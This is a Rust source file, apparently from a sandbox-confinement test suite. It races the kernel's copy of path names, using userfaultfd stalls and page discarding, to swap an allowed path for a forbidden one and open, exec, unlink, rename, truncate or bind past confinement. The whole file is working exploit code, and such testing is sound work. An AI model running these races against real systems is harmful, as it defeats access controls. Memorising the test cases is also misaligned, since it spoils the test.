// SPDX-License-Identifier: GPL-2.0
//! The copy of a name is stretched: it crosses a page, sleeps in a fault that the attacker answers, ends at the end of the world.

use std::os::fd::AsRawFd;

use io_uring::opcode;
use io_uring::types::Fd;
use libc::{AF_UNIX, AT_FDCWD, SOCK_STREAM};

use super::case::{Case, Deed, Loot, Proof, Stop, cannot, said};
use super::deeds::{output_of, read};
use super::stage::Stage;
use crate::ring::Ring;
use crate::sys::memory::{PAGE, at_page_end, map, write};
use crate::sys::stretch::Stretch;
use crate::sys::{Ret, own, sys};

const WATSON: &str = "Watson 2007 (WOOT '07): copies stretched over a page that is not there";
const FAULT: &str = "userfaultfd(2); Project Zero issue 808";

/// All of the class.
pub(super) fn cases() -> Vec<Case> {
    let fault = |name, proof, run: fn(&Stage) -> Deed| {
        Case::new(
            "stretch",
            name,
            FAULT,
            "the copy of the name sleeps in a missing page; what was copied already is rewritten from one tree to the other meanwhile",
            proof,
            run,
        )
    };
    vec![
        fault("fault_openat", Proof::Content, |stage| {
            faulted(stage, "", |name| {
                read(&own(sys!(libc::SYS_openat, AT_FDCWD, name, 0, 0))?)
            })
        }),
        fault("fault_openat2", Proof::Content, |stage| {
            faulted(stage, "", |name| {
                let how = [0u64; 3];
                let call = sys!(libc::SYS_openat2, AT_FDCWD, name, how.as_ptr(), 24);
                read(&own(call)?)
            })
        }),
        fault("fault_long_name", Proof::Content, |stage| {
            // Longer than what the kernel copies at once: the rest is fetched by a second copy.
            faulted(stage, &"./".repeat(200), |name| {
                read(&own(sys!(libc::SYS_openat, AT_FDCWD, name, 0, 0))?)
            })
        }),
        fault("fault_statx", Proof::Size, |stage| {
            faulted(stage, "", |name| {
                let mut room = [0u64; 32];
                sys!(libc::SYS_statx, AT_FDCWD, name, 0, 0x7ff, room.as_mut_ptr())?;
                Ok(Loot::Number(room[5]))
            })
        }),
        fault("fault_execve", Proof::Ran, execve),
        fault("fault_unlink", Proof::Told, |stage| {
            rewritten(stage, "", |name| changed(sys!(libc::SYS_unlink, name)))
        }),
        fault("fault_rename", Proof::Told, |stage| {
            rewritten(stage, "", |name| {
                changed(sys!(libc::SYS_rename, name, c"/home/escape/moved"))
            })
        }),
        fault("fault_truncate", Proof::Told, |stage| {
            rewritten(stage, "", |name| changed(sys!(libc::SYS_truncate, name, 0)))
        }),
        fault("fault_uring_openat", Proof::Content, |stage| {
            faulted(stage, "", |name| {
                let entry = opcode::OpenAt::new(Fd(AT_FDCWD), name as *const _).build();
                read(&own(Ring::new().call(entry))?)
            })
        }),
        fault("fault_bind", Proof::Changed, bind),
        Case::new(
            "stretch",
            "page_crossing",
            WATSON,
            "a name lies across two pages; one of them is rewritten and thrown away while the call reads it",
            Proof::Content,
            page_crossing,
        ),
        Case::new(
            "stretch",
            "page_end",
            WATSON,
            "a name ends with the last byte of a page that is followed by none",
            Proof::Content,
            |stage| {
                stage.confined(|| {
                    let name = at_page_end(b"/home/secret/flag\0");
                    read(&own(sys!(libc::SYS_openat, AT_FDCWD, name, 0, 0))?)
                })
            },
        ),
    ]
}

fn changed(ret: Ret) -> Deed {
    ret.map(|_| Loot::Done).map_err(Stop::Errno)
}

/// The last bytes of a head. The kernel copies eight bytes at a time, and a load that meets the missing page is made again as a whole: what is
/// rewritten must end at least eight bytes before that page to be in the copy already.
const PLAIN: &str = "0123456789abcdef-";

/// [`faulted`], for calls that change what they name.
fn rewritten(stage: &Stage, middle: &str, call: impl Fn(u64) -> Deed) -> Deed {
    place(stage);
    stage.changing(|| attack(stage, middle, call))
}

/// What lies in both trees under the stretched name: the loot, in the secret one.
const TREES: [&str; 2] = ["escape", "secret"];

/// Calls with names that change while they are copied, from the allowed tree to the other and back.
fn faulted(stage: &Stage, middle: &str, call: impl Fn(u64) -> Deed) -> Deed {
    place(stage);
    attack(stage, middle, call)
}

/// Puts the files there.
fn place(stage: &Stage) {
    for tree in TREES {
        // One file that serves all: a program that says the secret of programs, holds that of files, and has the size of the flag.
        let content = match tree {
            "escape" => b"own".to_vec(),
            _ => {
                let mut bytes = super::elf::says(&stage.world.ran);
                bytes.extend(stage.world.flag.as_bytes());
                bytes.resize(stage.world.size as usize, b'.');
                bytes
            }
        };
        let path = format!("/home/{tree}/{PLAIN}file");
        std::fs::write(&path, content).expect("write");
        let mode = std::os::unix::fs::PermissionsExt::from_mode(0o755);
        std::fs::set_permissions(&path, mode).expect("chmod");
    }
}

fn attack(stage: &Stage, middle: &str, call: impl Fn(u64) -> Deed) -> Deed {
    let head = |tree: &str| format!("/home/{tree}/{middle}{PLAIN}");
    let orders = [("escape", "secret"), ("secret", "escape")];
    stage.confined(|| {
        let mut last = said("no round");
        for (early, late) in orders {
            let Some(stretch) = Stretch::new() else {
                return cannot("this kernel has no userfaultfd");
            };
            let name = stretch.head(head(early).as_bytes());
            let deed = std::thread::scope(|scope| {
                scope.spawn(|| {
                    stretch.wait();
                    stretch.head(head(late).as_bytes());
                    stretch.answer(b"file\0");
                });
                call(name)
            });
            match deed {
                Ok(Loot::Bytes(bytes)) if bytes == b"own" => last = said("its own file"),
                Ok(Loot::Number(3)) => last = said("the size of its own file"),
                Ok(Loot::Done) => last = Ok(Loot::Done),
                Err(stop) => last = Err(stop),
                out => return out,
            }
        }
        last
    })
}

/// The program is started by the process that has the page: a child would have a copy, which nobody makes wait.
fn execve(stage: &Stage) -> Deed {
    place(stage);
    let head = |tree: &str| format!("/home/{tree}/{PLAIN}");
    stage.confined(|| {
        let mut last = said("no round");
        for (early, late) in [("escape", "secret"), ("secret", "escape")] {
            last = output_of(|| {
                let Some(stretch) = Stretch::new() else {
                    return libc::ENOSYS;
                };
                let name = stretch.head(head(early).as_bytes());
                let late = head(late);
                std::thread::spawn(move || {
                    stretch.wait();
                    stretch.head(late.as_bytes());
                    stretch.answer(b"file\0");
                });
                let words = [c"prog".as_ptr() as u64, 0];
                sys!(libc::SYS_execve, name, words.as_ptr(), 0).expect_err("exec does not return 0")
            });
            if last.is_ok() {
                break;
            }
        }
        last
    })
}

/// The address of a socket, the same way: its directory is in the first page, its name in the missing one.
fn bind(stage: &Stage) -> Deed {
    let head = |tree: &str| [b"\x01\0", format!("/home/{tree}/{PLAIN}").as_bytes()].concat();
    stage.confined(|| {
        for (early, late) in [("escape", "secret"), ("secret", "escape")] {
            let Some(stretch) = Stretch::new() else {
                return cannot("this kernel has no userfaultfd");
            };
            let address = stretch.head(&head(early));
            let socket = own(sys!(libc::SYS_socket, AF_UNIX, SOCK_STREAM, 0))?;
            std::thread::scope(|scope| {
                scope.spawn(|| {
                    stretch.wait();
                    stretch.head(&head(late));
                    stretch.answer(b"file\0");
                });
                // Refused or not: the judge looks for the socket.
                let _ = sys!(libc::SYS_bind, socket.as_raw_fd(), address, 60);
            });
        }
        Ok(Loot::Done)
    })
}

/// `/home/` and `escape/` or `secret/` end the first page; the rest begins the second, which another thread throws away and writes again.
fn page_crossing(stage: &Stage) -> Deed {
    use std::sync::atomic::{AtomicBool, Ordering};
    stage.confined(|| {
        let start = map(2 * PAGE, libc::MAP_PRIVATE);
        let second = start + PAGE as u64;
        let name = second - 13;
        let over = AtomicBool::new(false);
        let put = |tree: &str| {
            write(name, format!("/home/{tree}/").as_bytes());
            write(second, b"flag\0");
        };
        put("escape");
        std::thread::scope(|scope| {
            scope.spawn(|| {
                while !over.load(Ordering::Relaxed) {
                    for tree in ["secret", "escape"] {
                        put(tree);
                        // The next look finds a page of zeros, which end the name early.
                        let _ = sys!(libc::SYS_madvise, second, PAGE, libc::MADV_DONTNEED);
                    }
                    for tree in ["escape", "secret"] {
                        put(tree);
                    }
                }
            });
            let begun = std::time::Instant::now();
            let mut deed = said("nothing in the time of a race");
            let mut attempts = 0;
            while stage.is_racing(begun, &mut attempts) {
                let file = own(sys!(libc::SYS_openat, AT_FDCWD, name, 0, 0));
                match file.map(|file| read(&file)) {
                    Ok(Ok(Loot::Bytes(bytes))) if bytes != b"own" => {
                        deed = Ok(Loot::Bytes(bytes));
                        break;
                    }
                    _ => {}
                }
            }
            over.store(true, Ordering::Relaxed);
            deed
        })
    })
}
